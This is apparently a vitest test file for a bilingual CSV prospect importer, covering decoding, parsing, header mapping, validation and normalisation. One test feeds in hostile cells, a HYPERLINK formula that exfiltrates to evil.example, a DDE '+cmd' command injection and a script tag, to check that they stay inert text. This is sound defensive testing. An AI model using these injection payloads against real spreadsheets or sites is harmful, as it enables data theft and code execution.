import { describe, expect, it } from 'vitest';
import {
  type CsvMapping,
  decodeCsvBytes,
  mapRows,
  normalizeCountry,
  normalizeProvince,
  parseCsv,
  parseEmployees,
  suggestMapping,
  validateMapping,
} from '../../../worker/features/prospects/csv';
import { mappingProblems } from '../../../worker/features/prospects/csv/mapping';
import { AppError } from '../../../worker/platform/errors';

const utf8 = (text: string) => new TextEncoder().encode(text);
const bytes = (...parts: (string | number[])[]) =>
  new Uint8Array(parts.flatMap((part) => (typeof part === 'string' ? [...utf8(part)] : part)));

/** Parse then map with the suggested mapping, the way the import screen starts. */
function importText(text: string) {
  const parsed = parseCsv(text);
  const mapping = suggestMapping(parsed.headers);
  return { parsed, mapping, ...mapRows(parsed.rows, mapping) };
}

describe('decodeCsvBytes', () => {
  it('strips a UTF-8 byte-order mark', () => {
    const decoded = decodeCsvBytes(bytes([0xef, 0xbb, 0xbf], 'Nom,Ville\nCafé Olé,Québec\n'));
    expect(decoded).toEqual({ text: 'Nom,Ville\nCafé Olé,Québec\n', encoding: 'utf-8' });
  });

  it('reads UTF-8 without a mark', () => {
    expect(decodeCsvBytes(utf8('Entreprise;Téléphone\n'))).toEqual({
      text: 'Entreprise;Téléphone\n',
      encoding: 'utf-8',
    });
  });

  it('falls back to windows-1252, with the 0x80–0x9F characters Excel writes', () => {
    // "Québec", "l’entreprise", "€", “…” and … as Excel on Windows saves them.
    const decoded = decodeCsvBytes(
      bytes('Qu', [0xe9], 'bec;l', [0x92], 'entreprise;', [0x80], ' 50;', [0x93], 'oui', [0x94], [0x85], '\n'),
    );
    expect(decoded.encoding).toBe('windows-1252');
    expect(decoded.text).toBe('Québec;l’entreprise;€ 50;“oui”…\n');
  });

  it('keeps the five bytes windows-1252 leaves undefined as their latin-1 code points', () => {
    const decoded = decodeCsvBytes(new Uint8Array([0xe9, 0x81, 0x8d, 0x8f, 0x90, 0x9d]));
    expect([...decoded.text].map((c) => c.codePointAt(0))).toEqual([0xe9, 0x81, 0x8d, 0x8f, 0x90, 0x9d]);
  });

  it('decodes a large windows-1252 file in one piece', () => {
    const line = bytes('Plomberie Qu', [0xe9], 'bec;Montr', [0xe9], 'al\n');
    const big = new Uint8Array(line.length * 5000);
    for (let i = 0; i < 5000; i++) big.set(line, i * line.length);
    const decoded = decodeCsvBytes(big);
    expect(decoded.encoding).toBe('windows-1252');
    expect(decoded.text.split('\n')).toHaveLength(5001);
    expect(decoded.text.startsWith('Plomberie Québec;Montréal\n')).toBe(true);
  });
});

describe('parseCsv', () => {
  it('reads a comma-delimited file, quotes and all', () => {
    const parsed = parseCsv('Name,Website\n"Smith, Sons & Co",smith.ca\nAcme,acme.ca\n');
    expect(parsed.delimiter).toBe(',');
    expect(parsed.headers).toEqual(['Name', 'Website']);
    expect(parsed.rows).toEqual([
      { line: 2, cells: ['Smith, Sons & Co', 'smith.ca'] },
      { line: 3, cells: ['Acme', 'acme.ca'] },
    ]);
    expect(parsed.problems).toEqual([]);
  });

  it('detects the semicolon of a French Excel export, commas in cells included', () => {
    const text =
      'Nom de l’entreprise;Site Web;Adresse;Ville\r\n' +
      'Plomberie Tremblay inc.;plomberie-tremblay.ca;123, rue Principale, bureau 4;Laval\r\n' +
      'Toitures Côté;toiturescote.com;45, boul. des Laurentides;Saint-Jérôme\r\n';
    const parsed = parseCsv(text);
    expect(parsed.delimiter).toBe(';');
    expect(parsed.rows.map((row) => row.cells)).toEqual([
      ['Plomberie Tremblay inc.', 'plomberie-tremblay.ca', '123, rue Principale, bureau 4', 'Laval'],
      ['Toitures Côté', 'toiturescote.com', '45, boul. des Laurentides', 'Saint-Jérôme'],
    ]);
  });

  it('detects tabs', () => {
    expect(parseCsv('Name\tWebsite\nA\ta.ca\n').delimiter).toBe('\t');
  });

  it('numbers each record by the physical line it starts on, quoted line breaks and blank lines counted', () => {
    const text = [
      'Name,Website,Address',
      '"Plomberie',
      'Tremblay",plomberie-tremblay.ca,"123 rue Principale',
      'Laval"',
      '',
      '   ',
      'Acme,acme.ca,1 Main St',
      ',,',
      'Last,last.ca,"A\r\nB"',
    ].join('\r\n');
    const parsed = parseCsv(text);
    expect(parsed.rows.map((row) => row.line)).toEqual([2, 7, 9]);
    expect(parsed.rows[0]!.cells[0]).toBe('Plomberie\r\nTremblay');
    expect(parsed.problems).toEqual([]);
  });

  it('counts LF and lone CR line breaks too', () => {
    expect(parseCsv('a,b\n1,2\n\n3,4\n').rows.map((row) => row.line)).toEqual([2, 4]);
    expect(parseCsv('a,b\r1,2\r\r3,4\r').rows.map((row) => row.line)).toEqual([2, 4]);
  });

  it('strips a byte-order mark left in the text', () => {
    expect(parseCsv('\uFEFFName,Website\nA,a.ca\n').headers).toEqual(['Name', 'Website']);
  });

  it('pads a short row and skips a row with more cells than columns', () => {
    const parsed = parseCsv('Name,Website,City\nA,a.ca\nB,b.ca,Laval,extra\nC,c.ca,Laval,,\n');
    expect(parsed.rows).toEqual([
      { line: 2, cells: ['A', 'a.ca', ''] },
      { line: 4, cells: ['C', 'c.ca', 'Laval'] },
    ]);
    expect(parsed.problems).toEqual([expect.objectContaining({ line: 3, code: 'column_count' })]);
  });

  it('reports an unclosed quote at its line instead of failing', () => {
    const parsed = parseCsv('Name,Website\nA,a.ca\n"B,b.ca\nC,c.ca\n');
    expect(parsed.rows).toEqual([{ line: 2, cells: ['A', 'a.ca'] }]);
    expect(parsed.problems).toEqual([expect.objectContaining({ line: 3, code: 'malformed_quotes' })]);
  });

  it('says when the file has no header', () => {
    expect(parseCsv('').problems).toEqual([expect.objectContaining({ line: null, code: 'empty_file' })]);
    expect(parseCsv('\n\n  \n').headers).toEqual([]);
  });

  it('stops at 20,000 rows with a problem, not a crash', () => {
    const lines = ['Name,Website'];
    for (let i = 1; i <= 20_001; i++) lines.push(`Business ${i},business-${i}.ca`);
    const parsed = parseCsv(lines.join('\n'));
    expect(parsed.rows).toHaveLength(20_000);
    expect(parsed.rows.at(-1)).toEqual({ line: 20_001, cells: ['Business 20000', 'business-20000.ca'] });
    const problem = parsed.problems.find((p) => p.code === 'too_many_rows');
    expect(problem).toMatchObject({ line: null });
    expect(problem!.message.en).toContain('20,000');
    expect(problem!.message.fr).toContain('20');
  });

  it('keeps the first columns of a file that has too many', () => {
    const header = Array.from({ length: 70 }, (_, i) => `c${i}`).join(',');
    const row = Array.from({ length: 70 }, (_, i) => `v${i}`).join(',');
    const parsed = parseCsv(`${header}\n${row}\n`);
    expect(parsed.headers).toHaveLength(60);
    expect(parsed.rows[0]!.cells).toHaveLength(60);
    expect(parsed.problems.map((p) => p.code)).toContain('too_many_columns');
  });

  it('cuts an overlong cell and says so on its line', () => {
    const parsed = parseCsv(`Name,Notes\nA,${'x'.repeat(5000)}\n`, { maxRows: 10, maxColumns: 10, maxCellChars: 100 });
    expect(parsed.rows[0]!.cells[1]).toHaveLength(100);
    expect(parsed.problems).toEqual([expect.objectContaining({ line: 2, code: 'cell_too_long' })]);
  });

  it('keeps hostile cells as plain text', () => {
    const text =
      'Name,Website,Industry\n' +
      '"=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",hyperlink.ca,"<script>alert(1)</script>"\n' +
      "+cmd|' /C calc'!A0,calc.ca,@SUM(1+1)\n";
    const { parsed, records, errors } = importText(text);
    expect(parsed.rows[0]!.cells[0]).toBe('=HYPERLINK("https://evil.example/?x="&A1,"Click")');
    expect(errors).toEqual([]);
    expect(records.map((r) => [r.businessName, r.industry])).toEqual([
      ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '<script>alert(1)</script>'],
      ["+cmd|' /C calc'!A0", '@SUM(1+1)'],
    ]);
  });
});

describe('suggestMapping', () => {
  it.each([
    ['Name', 'businessName'],
    ['Company', 'businessName'],
    ['Business name', 'businessName'],
    ['Entreprise', 'businessName'],
    ['Nom de l’entreprise', 'businessName'],
    ["NOM DE L'ENTREPRISE", 'businessName'],
    ['Raison sociale', 'businessName'],
    ['Website', 'website'],
    ['Site web', 'website'],
    ['Site Internet', 'website'],
    ['URL', 'website'],
    ['Email', 'email'],
    ['E-mail', 'email'],
    ['Courriel', 'email'],
    ['Adresse courriel', 'email'],
    ['Phone', 'phone'],
    ['Téléphone', 'phone'],
    ['Tél.', 'phone'],
    ['Industry', 'industry'],
    ['Secteur', 'industry'],
    ['Secteur d’activité', 'industry'],
    ['Industrie', 'industry'],
    ['City', 'city'],
    ['Ville', 'city'],
    ['Municipalité', 'city'],
    ['Province', 'region'],
    ['Région', 'region'],
    ['Country', 'country'],
    ['Pays', 'country'],
    ['Employees', 'employees'],
    ['Employés', 'employees'],
    ['Nombre d’employés', 'employees'],
    ['LinkedIn', 'linkedinUrl'],
    ['Address', 'address'],
    ['Adresse', 'address'],
    ['  company_name ', 'businessName'],
    ['linkedinUrl', 'linkedinUrl'],
    ['Numéro de téléphone', 'phone'],
    ['Site Web de l’entreprise', 'website'],
  ])('%j → %s', (header, field) => {
    expect(suggestMapping([header])).toEqual({ [field]: 0 });
  });

  it('maps a whole English export', () => {
    expect(
      suggestMapping(['Company', 'Website', 'Email', 'Phone', 'Industry', 'City', 'Province', 'Country', 'Employees']),
    ).toEqual({
      businessName: 0,
      website: 1,
      email: 2,
      phone: 3,
      industry: 4,
      city: 5,
      region: 6,
      country: 7,
      employees: 8,
    });
  });

  it('maps a whole French export, and leaves columns it does not know', () => {
    expect(
      suggestMapping([
        'Raison sociale',
        'Site Internet',
        'Courriel',
        'Tél.',
        'Secteur d’activité',
        'Municipalité',
        'Code postal',
        'Région',
        'Pays',
        'Nombre d’employés',
        'Page LinkedIn',
        'Adresse',
      ]),
    ).toEqual({
      businessName: 0,
      website: 1,
      email: 2,
      phone: 3,
      industry: 4,
      city: 5,
      region: 7,
      country: 8,
      employees: 9,
      linkedinUrl: 10,
      address: 11,
    });
  });

  it('does not take a contact person’s name for the business', () => {
    expect(
      suggestMapping(['Nom du contact', 'Prénom', 'Contact name', 'Company LinkedIn', 'Email de contact']),
    ).toEqual({ linkedinUrl: 3, email: 4 });
  });

  it('prefers the better column for a field and never maps a column twice', () => {
    expect(suggestMapping(['Région', 'Nom', 'Province', 'Company website', 'Nom de l’entreprise'])).toEqual({
      region: 2,
      businessName: 4,
      website: 3,
    });
  });
});

describe('validateMapping', () => {
  it('accepts a usable mapping', () => {
    expect(validateMapping({ businessName: 0, website: 1, email: 2 }, 3)).toEqual([]);
  });

  it('names the missing required fields, in both languages', () => {
    const problems = mappingProblems({ email: 0 }, 3);
    expect(problems.map((p) => [p.field, p.code])).toEqual([
      ['businessName', 'required_field_unmapped'],
      ['website', 'required_field_unmapped'],
    ]);
    expect(validateMapping({ email: 0 }, 3)[1]).toEqual({
      en: 'Choose the column that holds the website.',
      fr: 'Choisissez la colonne qui contient le champ « Site Web ».',
    });
  });

  it('refuses a column out of range or mapped to two fields', () => {
    const problems = mappingProblems({ businessName: 0, website: 5, email: 0, phone: -1, city: 1.5 }, 3);
    expect(problems.map((p) => [p.field, p.code])).toEqual([
      ['website', 'column_out_of_range'],
      ['email', 'column_mapped_twice'],
      ['phone', 'column_out_of_range'],
      ['city', 'column_out_of_range'],
    ]);
    for (const problem of problems) {
      expect(problem.message.en).not.toBe('');
      expect(problem.message.fr).not.toBe(problem.message.en);
    }
  });

  it('refuses an unknown field', () => {
    expect(mappingProblems({ businessName: 0, website: 1, fax: 2 } as CsvMapping, 3)).toEqual([
      expect.objectContaining({ field: 'fax', code: 'unknown_field' }),
    ]);
  });

  it('makes mapRows throw on an unusable mapping', () => {
    expect(() => mapRows([], { email: 0 })).toThrow(AppError);
  });
});

describe('mapRows', () => {
  const header = 'Entreprise;Site web;Courriel;Téléphone;Ville;Province;Pays;Employés;LinkedIn;Adresse\n';

  it('turns a line into a csv ProviderRecord', () => {
    const { records, errors, warnings } = importText(
      header +
        '  Plomberie Tremblay inc. ;https://www.plomberie-tremblay.ca/contact;Info@Plomberie-Tremblay.CA;(514) 555-0142;Laval;Québec;;10-50;linkedin.com/company/plomberie-tremblay;"123, rue Principale\nLaval"\n',
    );
    expect(errors).toEqual([]);
    expect(warnings).toEqual([]);
    expect(records).toEqual([
      {
        source: 'csv',
        sourceId: 'csv:line-2',
        businessName: 'Plomberie Tremblay inc.',
        website: 'https://www.plomberie-tremblay.ca/contact',
        email: 'Info@plomberie-tremblay.ca',
        phone: '(514) 555-0142',
        industry: null,
        city: 'Laval',
        region: 'QC',
        country: 'CA',
        employees: 30,
        linkedinUrl: 'https://linkedin.com/company/plomberie-tremblay',
        address: '123, rue Principale, Laval',
      },
    ]);
  });

  it('gives each line that cannot be imported an error in English and French, and imports the others', () => {
    const text =
      header +
      ';noname.ca;;;;;;;;\n' +
      'Sans site;;;;;;;;;\n' +
      'Placeholder;n/a;;;;;;;;\n' +
      'Page Facebook;https://www.facebook.com/plomberie.x;;;;;;;;\n' +
      'Mot seul;facebook;;;;;;;;\n' +
      'Courriel;info@toitures.ca;;;;;;;;\n' +
      'Formule;"=HYPERLINK(""http://x.ca"")";;;;;;;;\n' +
      'Adresse IP;http://192.168.0.10;;;;;;;;\n' +
      'Bonne;bonne.ca;;;;;;;;\n';
    const { records, errors } = importText(text);
    expect(records.map((r) => r.sourceId)).toEqual(['csv:line-10']);
    expect(errors.map((e) => [e.line, e.code])).toEqual([
      [2, 'no_name'],
      [3, 'no_website'],
      [4, 'no_website'],
      [5, 'directory_website'],
      [6, 'invalid_website'],
      [7, 'website_is_email'],
      [8, 'invalid_website'],
      [9, 'invalid_website'],
    ]);
    for (const error of errors) {
      expect(error.message.en.length).toBeGreaterThan(10);
      expect(error.message.fr.length).toBeGreaterThan(10);
      expect(error.message.fr).not.toBe(error.message.en);
    }
    expect(errors[5]!.message).toEqual({
      en: '“info@toitures.ca” is an email address, not a website.',
      fr: '« info@toitures.ca » est une adresse courriel, pas un site Web.',
    });
  });

  it('reports every error of a line', () => {
    const { errors } = importText(`${header}N/A;;;;;;;;;\n`);
    expect(errors.map((e) => e.code)).toEqual(['no_name', 'no_website']);
  });

  it('imports a line without an unusable optional field, with a warning', () => {
    const { records, errors, warnings } = importText(
      header +
        'Toitures Côté;toiturescote.com;pas un courriel;123;Québec;QC;Atlantide;beaucoup;twitter.com/x;\n' +
        'Deux courriels;deux.ca;a@deux.ca, b@deux.ca;;;;;;;\n',
    );
    expect(errors).toEqual([]);
    expect(records[0]).toMatchObject({
      businessName: 'Toitures Côté',
      email: null,
      phone: null,
      country: null,
      employees: null,
      linkedinUrl: null,
    });
    expect(records[1]!.email).toBe('a@deux.ca');
    expect(warnings.map((w) => [w.line, w.code])).toEqual([
      [2, 'invalid_email'],
      [2, 'invalid_phone'],
      [2, 'unknown_country'],
      [2, 'invalid_employees'],
      [2, 'invalid_linkedin'],
      [3, 'several_emails'],
    ]);
    expect(warnings[0]!.message.fr).toContain('importée sans');
  });

  it('reports a website seen on an earlier line as a duplicate, and still imports it', () => {
    const { records, warnings } = importText(
      'Name,Website\nPlomberie Tremblay,plomberie-tremblay.ca\nAutre,acme.ca\nPlomberie T.,https://WWW.Plomberie-Tremblay.ca/soumission\n',
    );
    expect(records).toHaveLength(3);
    expect(warnings).toEqual([
      {
        line: 4,
        code: 'duplicate_website',
        message: {
          en: 'Same website as line 2 (plomberie-tremblay.ca): the two lines are merged into one prospect.',
          fr: 'Même site Web qu’à la ligne 2 (plomberie-tremblay.ca) : les deux lignes sont fusionnées en un seul prospect.',
        },
      },
    ]);
  });

  it('treats placeholders as empty and strips control characters', () => {
    const { records, warnings } = importText(`${header}A\u0000B;ab.ca;N/D;-;aucun;n/a;;?;;null\n`);
    expect(warnings).toEqual([]);
    expect(records[0]).toMatchObject({
      businessName: 'AB',
      email: null,
      phone: null,
      city: null,
      region: null,
      country: null,
      employees: null,
      address: null,
    });
  });

  it('keeps a region that is not a province as written', () => {
    const { records } = importText('Name,Website,Region,Country\nA,a.ca,Île-de-France,France\n');
    expect(records[0]).toMatchObject({ region: 'Île-de-France', country: 'FR' });
  });
});

describe('parseEmployees', () => {
  it.each([
    ['10', 10],
    ['0', 0],
    ['10-50', 30],
    ['11 – 50', 31],
    ['1 à 10', 6],
    ['1 a 10', 6],
    ['51 to 200', 126],
    ['50+', 50],
    ['500 et plus', 500],
    ['plus de 50', 50],
    ['more than 1,000', 1000],
    ['moins de 10', 5],
    ['1 000', 1000],
    ['1\u00a0200', 1200],
    ['10,000', 10000],
    ['25 employés', 25],
    ['environ 40', 40],
    ['~12 employees', 12],
  ])('%j → %d', (input, expected) => {
    expect(parseEmployees(input)).toBe(expected);
  });

  it.each(['beaucoup', '50-10', '2.5', '-3', 'ten', '1e9', ''])('rejects %j', (input) => {
    expect(parseEmployees(input)).toBeNull();
  });
});

describe('normalizeProvince', () => {
  it.each([
    ['Québec', 'QC'],
    ['Quebec', 'QC'],
    ['QC', 'QC'],
    ['Qc', 'QC'],
    ['qc', 'QC'],
    ['P.Q.', 'QC'],
    ['Montérégie', 'QC'],
    ['Ontario', 'ON'],
    ['Ont.', 'ON'],
    ['British Columbia', 'BC'],
    ['Colombie-Britannique', 'BC'],
    ['C.-B.', 'BC'],
    ['Nouveau-Brunswick', 'NB'],
    ['Nova Scotia', 'NS'],
    ['Nouvelle-Écosse', 'NS'],
    ['Île-du-Prince-Édouard', 'PE'],
    ['Terre-Neuve-et-Labrador', 'NL'],
    ['Territoires du Nord-Ouest', 'NT'],
    ['Alberta', 'AB'],
    ['Saskatchewan', 'SK'],
    ['Manitoba', 'MB'],
    ['Yukon', 'YT'],
    ['Nunavut', 'NU'],
  ])('%j → %s', (input, expected) => {
    expect(normalizeProvince(input)).toBe(expected);
  });

  it.each(['California', 'Île-de-France', 'NY', ''])('leaves %j unknown', (input) => {
    expect(normalizeProvince(input)).toBeNull();
  });
});

describe('normalizeCountry', () => {
  it.each([
    ['Canada', 'CA'],
    ['ca', 'CA'],
    ['CAN', 'CA'],
    ['États-Unis', 'US'],
    ['USA', 'US'],
    ['France', 'FR'],
  ])('%j → %s', (input, expected) => {
    expect(normalizeCountry(input)).toBe(expected);
  });

  it('leaves an unknown name unknown', () => {
    expect(normalizeCountry('Atlantide')).toBeNull();
  });
});
